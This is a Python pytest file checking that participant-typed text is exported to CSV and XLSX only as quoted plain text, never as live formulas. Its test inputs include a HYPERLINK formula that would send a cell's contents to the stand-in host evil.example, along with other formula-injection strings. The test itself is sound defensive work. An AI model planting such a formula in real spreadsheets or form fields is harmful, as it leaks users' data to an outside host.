"""Formula injection: text people typed never becomes a live formula in a CSV or XLSX export."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_reports import populate

from bot.bootstrap import build_kit
from bot.organiser.exports import FORMULA_STARTS, export
from bot.store.database import Database
from bot.store.participants import SqlStore
from flows.assembly import Assembly

TYPED = ['=HYPERLINK("https://evil.example/?"&A1,"Zoë")', "+32 470", "-1+2", "@SUM(A1:A9)", "\tTab", "\rCR"]


async def _typed_by_people(db: Database, assembly: Assembly) -> None:
    await populate(db, assembly, size=4)
    now = datetime(2027, 2, 2, tzinfo=UTC)
    async with db.transaction() as session:
        store = SqlStore(session, assembly.id)
        for number, text in enumerate(TYPED):
            person = await store.add_participant(40_000 + number, 40_000 + number, "en")
            await store.registrations.save_answer(person.id, "first_name", text, now)
            await store.registrations.save_answer(person.id, "access", {"needs": [], "note": text}, now)
            await store.sessions.set_rsvp(person.id, "s2", "absent", now)
            await store.sessions.set_rsvp_reason(person.id, "s2", text)


@pytest.mark.parametrize("personal", [True, False])
async def test_no_export_cell_is_a_formula(
    db: Database, assembly: Assembly, tmp_path: Path, personal: bool
) -> None:
    await _typed_by_people(db, assembly)
    translations = build_kit(assembly).translations
    (book_path,) = await export(
        db, assembly, "xlsx", tmp_path / "x", include_personal=personal, translations=translations
    )
    book = load_workbook(book_path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]

    csv_paths = await export(
        db, assembly, "csv", tmp_path / "c", include_personal=personal, translations=translations
    )
    values = []
    for path in csv_paths:
        with path.open(newline="", encoding="utf-8") as handle:
            values += [value for row in csv.reader(handle) for value in row]
    assert not [value for value in values if value.startswith(FORMULA_STARTS)]
    if personal:  # what was typed is all there, only marked as text (XML has no carriage return)
        for text in TYPED:
            assert "'" + text in values
            assert "'" + text.replace("\r", "\n") in [t.replace("\r", "\n") for t in texts]
